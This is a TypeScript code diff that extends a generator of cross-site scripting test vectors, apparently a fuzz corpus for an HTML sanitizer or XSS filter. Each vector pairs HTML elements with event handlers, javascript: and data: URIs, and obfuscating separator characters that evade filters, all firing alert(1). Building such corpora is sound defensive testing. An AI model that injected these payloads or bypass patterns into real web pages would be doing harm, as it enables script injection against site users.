@@ -1,13 +1,15 @@
 const elements =
-  'a abbr acronym address applet area article aside audio b base bdi bdo big blink body br button canvas center cite code col command content custom-x data datalist dd del details dfn dialog dir div dl dt element em embed fieldset figcaption figure font footer form frame frameset h1 h2 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math menu meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture plaintext pre progress q rb rp rt rtc ruby s samp script section select shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xmp'.split(
+  'a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button canvas caption center cite code col colgroup command comment content custom-x data datalist dd del details dfn dialog dir discard div dl dt element em embed fieldset figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture plaintext pre progress q rb rp rt rtc ruby s samp script search section select shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xml xmp'.split(
     ' ',
   );
 const handlers =
-  'abort activate afterprint animationcancel animationend animationiteration animationstart auxclick beforeactivate beforecopy beforecut beforedeactivate beforeinput beforematch beforepaste beforetoggle begin blur bounce canplay change click close contextmenu copy cuechange cut dblclick deactivate drag dragend drop end ended error finish focus focusin focusout formdata fullscreenchange hashchange help input invalid keydown keypress keyup load loadeddata loadstart message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel orientationchange pagehide pageshow paste play pointerdown pointerenter pointermove pointerover pointerrawupdate pointerup popstate progress propertychange readystatechange repeat reset resize scroll scrollend search securitypolicyviolation seeked select show start submit suspend timeupdate toggle touchend touchstart transitioncancel transitionend transitionrun unhandledrejection unload volumechange webkitanimationstart wheel'.split(
+  'abort activate afterprint animationcancel animationend animationiteration animationstart auxclick beforeactivate beforecopy beforecut beforedeactivate beforeinput beforeload beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce canplay canplaythrough change command contentvisibilityautostatechange click close contextmenu copy cuechange cut dblclick deactivate devicemotion drag dragend dragenter dragleave dragover dragstart drop durationchange emptied end ended error filterchange finish focus focusin focusout formchange formdata forminput fullscreenchange gotpointercapture hashchange help input invalid keydown keypress keyup load loadeddata loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online orientationchange pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange rejectionhandled repeat reset resize scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun unhandledrejection unload volumechange waiting webkitanimationstart wheel'.split(
     ' ',
   );
 const addressed =
-  'href src action formaction data poster srcset background cite longdesc xlink:href ping srcdoc manifest code codebase'.split(' ');
+  'action formaction data poster srcset background cite longdesc xlink:href ping srcdoc manifest code codebase classid dynsrc lowsrc folder value values from to content archive'.split(
+    ' ',
+  );
 const programs = [
   'javascript:alert(1)',
   ' javascript:alert(1)',
@@ -15,16 +17,42 @@ const programs = [
   'data:text/html,<script>parent.alert(1)</script>',
 ];
 
-/** What the long lists of vectors do: every element with every handler, with every attribute that takes an address, and inside another language. */
+// What a browser may pass over, and what may end a name or a value before its end is seen.
+const separators = [
+  ...Array.from({ length: 33 }, (_, code) => String.fromCharCode(code)),
+  ...'"\'`/\\=<>:;&-!+~\x7F\x85\xA0\xAD\u1680\u180E\u2000\u2003\u200A\u200B\u200D\u2028\u2029\u202F\u205F\u2060\u3000\uFEFF\uFFFE',
+];
+
+function inGroups<T>(all: ReadonlyArray<T>, size: number): ReadonlyArray<ReadonlyArray<T>> {
+  return Array.from({ length: Math.ceil(all.length / size) }, (_, group) => all.slice(group * size, (group + 1) * size));
+}
+
+/**
+ * What the long lists of vectors do: every element with every handler, with every attribute that takes an address, and
+ * inside another language; every odd character at every place where one has helped. Handlers share an element, no more
+ * than are read of one, and a picture has a good address beside them: without it the whole would go for that alone.
+ */
 export function combinations(): ReadonlyArray<string> {
   const handled = elements.flatMap((name) =>
-    handlers.map((event) => `<${name} src=x autofocus tabindex=0 on${event}=alert(1)>x</${name}>`),
+    inGroups(handlers, 20).map(
+      (some) => `<${name} src=/x autofocus tabindex=0 ${some.map((event) => `on${event}=alert(1)`).join(' ')}>x</${name}>`,
+    ),
   );
   const led = elements.flatMap((name) =>
-    addressed.flatMap((attribute) => programs.map((to) => `<${name} ${attribute}="${to}">x</${name}>`)),
+    programs.flatMap((to) => [
+      ...['src', 'href'].map((attribute) => `<${name} ${attribute}="${to}">x</${name}>`),
+      `<${name} src=/x href=/x ${addressed.map((attribute) => `${attribute}="${to}"`).join(' ')}>x</${name}>`,
+    ]),
   );
   const foreign = elements.flatMap((name) =>
     ['svg', 'math'].map((outer) => `<${outer}><${name} src=x onload=alert(1) onerror=alert(1)><b></${name}></${outer}>`),
   );
-  return [...handled, ...led, ...foreign];
+  const separated = separators.flatMap((odd) => [
+    ...[`${odd}javascript:`, `java${odd}script:`, `javascript${odd}:`].map((to) => `<a href="${to}alert(1)">x</a>`),
+    `<img${odd}src=x${odd}onerror${odd}=${odd}alert(1)${odd}>`,
+    `<${odd}img src=x onerror=alert(1)><img ${odd}src=x ${odd}onerror=alert(1)>`,
+    `<script${odd}>alert(1)</script${odd}>`,
+    `<!--${odd}><img src=x onerror=alert(1)><!-- --${odd}><img src=x onerror=alert(1)>-->`,
+  ]);
+  return [...handled, ...led, ...foreign, ...separated];
 }
